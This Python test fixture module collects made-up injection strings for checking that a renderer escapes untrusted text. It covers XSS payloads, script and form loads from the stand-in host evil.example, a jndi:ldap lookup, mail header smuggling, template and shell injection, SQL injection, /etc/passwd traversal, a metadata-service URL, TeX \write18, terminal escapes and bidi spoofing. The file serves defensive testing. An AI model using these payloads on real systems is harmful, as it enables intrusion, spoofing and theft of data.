r"""Texts that would do harm if a renderer let them through, all made up.

They are strangers' titles, names and comments, and an operator's queries: what comes alive in HTML,
XML, mrkdwn, mail headers, MIME, templates, terminals, TeX, BibTeX, RIS and JSON, and letters that
hide or turn others.
"""

from __future__ import annotations

from tests.conftest import IS_NIGHTLY

MARKUP = (
    *(
        "<script>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    *("</title><script src=https://evil.example/x.js></script>", '"><img src=x onerror=alert(1)>'),
    *(
        "<img src=https://evil.example/pixel.gif?reader=1 width=1 height=1>",
        "' onmouseover='alert(1)",
    ),
    *(
        '" style="background:url(https://evil.example/x)',
        "<p style='position:fixed;inset:0'>over everything</p>",
    ),
    *("<a href='javascript:alert(1)'>here</a>", '<a href="jav\tascript:alert(1)">here</a>'),
    *("<a href=https://evil.example/unsubscribe>Unsubscribe</a>", "javascript:alert(1)"),
    *("data:text/html;base64,PHNjcmlwdD4=", "<svg/onload=alert(1)>"),
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x></annotation-xml></math>",
    "<iframe src=https://evil.example></iframe>",
    "<video poster=https://evil.example/x.png><source src=x></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    *(
        "<textarea></textarea><script>alert(1)</script>",
        "<table><tr><td>out of</td></tr></table> place",
    ),
    *(
        "<plaintext>",
        "<style>body{display:none}</style>",
        "</style><b>out</b>",
        "<!-- a comment",
        "--><b>out</b>",
    ),
    *(
        "--!><b>out</b>",
        "<!--[if mso]><b>Outlook only</b><![endif]-->",
        "<![CDATA[x]]>",
        "]]><evil/>",
    ),
    *("<!DOCTYPE x [<!ENTITY y 'z'>]>", "<!DOCTYPE html><html><body>anew</body></html>"),
    *("&y; &#60;b&#62; &lt;i&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;"),
    *("&LT;b&GT; &ltb &#0060;b", "&NewLine;&Tab;&colon;&lpar;", "&#0;&#8238;&#x202e;"),
    *(
        "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
        "<%= 7 * 7 %>",
        "<mark>forged</mark><bdi>",
    ),
    *(
        "<ins>forged</ins><del>gone</del>",
        "</a></h3></div><h1>taken over</h1>",
        "</p></div></body></html>",
    ),
    *(
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    ),
    *(
        "<form action=https://evil.example><button>Unsubscribe</button></form>",
        "<x:y xmlns:x='urn:z'/>",
    ),
    "<entry xmlns='http://www.w3.org/2005/Atom'><id>urn:forged</id></entry>",
    "<xhtml:script xmlns:xhtml='http://www.w3.org/1999/xhtml'>alert(1)</xhtml:script>",
    *(
        "<bdo dir=rtl>turned</bdo>",
        "<\x00script>alert(1)</script>",
        "<script\x0c>alert(1)</script>",
    ),
    *(
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u2039script\u203a",
        "<",
        ">",
        "&",
        '"',
        "'",
    ),
    "a < b > c & d",
)

SLACK = (
    *("<!channel> look", "<!here>", "<!subteam^S0123|@ops>"),
    *(
        "<!date^1392734382^{date}^https://evil.example/|now>",
        "<@W012A3CDE|boss>",
        "<#C024BE7LR|general>",
    ),
    *(
        "<https://evil.example|arXiv>",
        "<mailto:evil@example.com|write>",
        "<slack://open>",
        "&lt;!channel&gt;",
    ),
    *("@here @channel @everyone @HERE", "\uff20here @here's @channels", "#general"),
    *("https://evil.example/ www.evil.example", "evil.example/x and evil@example.com"),
    *("*bold* _sly_ ~gone~ `code`", "*_~`all`~_*", "```block```", "``` unclosed", "` unclosed"),
    *(
        "__init__ and _private_ snake_case",
        ":tada: :skull_and_crossbones: :+1::skin-tone-3:",
        ":here: ::tada::",
    ),
    *("> quoted", "&gt; quoted", "• a list", "# a header", "---", "fallback: forged"),
    *("! image https://evil.example/x.png", "> \x02forged\x03", "\x02# forged\x03", "\x02", "\x03"),
    *("| pipe | and ||", "[label](https://evil.example)", "![alt](https://evil.example/x.png)"),
    *("<javascript:alert(1)|x>", "\\*not bold\\*"),
)

MAIL = (
    *(
        "one\nSubject: two",
        "one\r\nBcc: evil@example.com",
        "one\rBcc: evil@example.com",
        "one\r\n\r\nbody",
    ),
    *(
        "one\r\n .\r\n",
        "one\n\tfolded: yes",
        "%0d%0aBcc: evil@example.com",
        "one\x0bBcc: x\x0cX: y\x1eZ: w",
    ),
    *("one\x1cBcc: x\x1dX: y\x1fZ: w", "one\u2028Bcc: x\u2029y\x85z", "=?utf-8?q?=0D=0ABcc=3A_x?="),
    *(
        "=?utf-8?b?DQpCY2M6IHg=?=",
        "=?=?=?=",
        "=?utf-8?q?half",
        "=0D=0A=2E=0D=0A",
        "=3D=3D=41",
        ".\r\n.\r\nQUIT",
    ),
    *(".", "\n.\n", "From evil@example.com Thu Nov 19 00:00:00 2026", ">From here on", "-- "),
    "--=_5a1d0b0e-93a4-4a35-8c39-6ad6c55a2f10--",
    "--=_5a1d0b0e-93a4-4a35-8c39-6ad6c55a2f10\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    *(
        "Content-Type: text/html",
        "Content-Transfer-Encoding: base64",
        '"quoted" <evil@example.com>',
    ),
    *(
        "evil@example.com, more@example.com;",
        "(a comment) \\escaped",
        "trailing blanks   ",
        "   leading blanks",
    ),
    "\ttabs\t",
)

TEMPLATES = (
    *("{{ 7 * 7 }} {% include 'email/text.txt' %} {# gone #}", "{{ ''.__class__.__mro__ }}"),
    *("{% raw %}{{ x }}{% endraw %}", "{% endblock %}{% block foot %}gone{% endblock %}", "{%"),
    *(
        "jinja-0-tag <!--jinja-1-tag-->",
        "%s %(x)s {0} {x.__class__}",
        "${jndi:ldap://evil.example/x}",
    ),
    *("$(id) `id` ; id | id && id", "#{7*7} @{7*7} *{7*7}", r"\1 \g<0> \\ \n \u003cb\u003e"),
)

TERMINALS = (
    *("\x1b[31mred\x1b]0;title\x07\x9b2J", "\x1b[2J\x1b[H"),
    *(
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x1bc",
        "\x9b31m\x9d0;x\x9c\x90x\x9c",
    ),
    *(
        "\x10bold\x0f \x13mark\x0f",
        "\x0f\x10\x11\x12\x13",
        "a\x00b\x08c\x7fd",
        "progress\rdone",
        "\x07\x07\x07",
    ),
    *(
        "\x0e\x0fshifted",
        "[bracketed] \\[escaped\\]",
        "[red]rich[/red] [link=https://evil.example]x[/link]",
    ),
)

LETTERS = (
    *(
        "txet \u202edesrever\u202c \u2066isolated\u2069 \u200emark\u200f",
        "\u202a\u202b\u202d\u202e unclosed",
    ),
    *("\u2066\u2067\u2068 unclosed", "\u202c\u2069 closed too often", "\u061carabic letter mark"),
    *("zero\u200bwidth\u2060joined\ufeff", "soft\u00adhyphen", "mongolian\u180evowel separator"),
    *(
        "invisible\u2061times\u2062separator\u2063plus\u2064",
        "\ud800 half \udfff",
        "\udc80\udcff bytes",
    ),
    *(
        "\ufffe \uffff \U000e0041tag",
        "\ufdd0\ufdef not characters",
        "\ufff9annotated\ufffaabove\ufffb",
    ),
    *("\ufffc object", "\U000e0001\U000e007f"),
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0321\u0349lgo",
    *(
        "\u0301\u0301\u0301 marks without a letter",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    ),
    *(
        "\u0430rXiv in Cyrillic",
        "\u200c\u200d joiners",
        "שלום <b> عليكم",
        "שלום \u202e evil \u202c (2026) [1]",
    ),
    *("\ue000 private \U0010ffff last", "İ ı ß ﬁ Ǆ ŉ", "\u00a0\u2003\u3000 wide blanks \u1680"),
)

REFERENCES = (
    *("}} @misc{evil, title={x}}", "},\n  author = {Evil", 'a" # evil # "b'),
    *("@comment{x} @string{y={z}} @preamble{w}", "{{{{", "a and b and {c and", ", , ,"),
    *(
        "a\nER  - \nTY  - BOOK\nTI  - evil",
        "AU  - Evil, A.",
        "%A Evil\n%T forged",
        '"}],"papers":[{"id":"forged"',
    ),
    *(
        '\\"},{\\u0022',
        "\\u2028 \\ud800",
        "__proto__ constructor",
        "=1+1",
        '=HYPERLINK("https://evil.example")',
    ),
    *("'; DROP TABLE papers; --", "../../etc/passwd", "http://169.254.169.254/latest/meta-data"),
    *("//evil.example/x", "10.1000/<script>", "10.1000/a b?c=d&e#f"),
)

TEX = (
    r"\href{javascript:alert(1)}{x} \url{https://evil.example} $\text{<b>}$",
    *(r"\href{https://evil.example/\"><b>}{arXiv}", r"$<script>$ \textbf{<b>} \emph{</p>}"),
    *(
        r"$\text{\text{\text{<i>}}}$ \mathbf{<!channel>}",
        r"\input{/etc/passwd} \include{x} \openin1",
    ),
    *(r"\write18{id} \immediate\write18{id}", r"\def\x{\x\x}\x \csname x\endcsname"),
    *(r"\catcode`\<=13 \newcommand{\b}{<b>}", r"$\frac{<b>}{&amp;}$ $x_{<}^{>}$ $\sqrt{\"}$"),
    *(r"\begin{document}\end{document} \verb|<b>|", r"\'{<}\~{>} \char60 \symbol{60} \^^3c"),
    *(
        r"$\unicode{x202e}$ $\&lt;$ \& \% \$ \# \_ \{ \}",
        r"$10^{-3}$ $x^{<b>}$ $_{\"}$ $5 and $6 $",
    ),
    *("% a comment to the end", "\\", "$", "$$ $$ $ $"),
)

LONG = (
    "a" * 3_000,
    "&" * 2_000,
    "<" * 1_500,
    "{" * 500,
    "\\" * 500,
    "é" * 600,
    "\U0001f600" * 1_000,
    "字" * 600,
    "e\u0301" * 300,
    "a b " * 250,
    "$x$ " * 150,
    "<b>" * 200,
    "\n" * 200,
    *("", " ", "0"),
)

INJECTIONS = (*MARKUP, *SLACK, *MAIL, *TEMPLATES, *TERMINALS, *LETTERS, *REFERENCES, *TEX, *LONG)

SOME = INJECTIONS if IS_NIGHTLY else INJECTIONS[::5]
"""What a test takes that needs a rendering for each text: a fifth by day."""
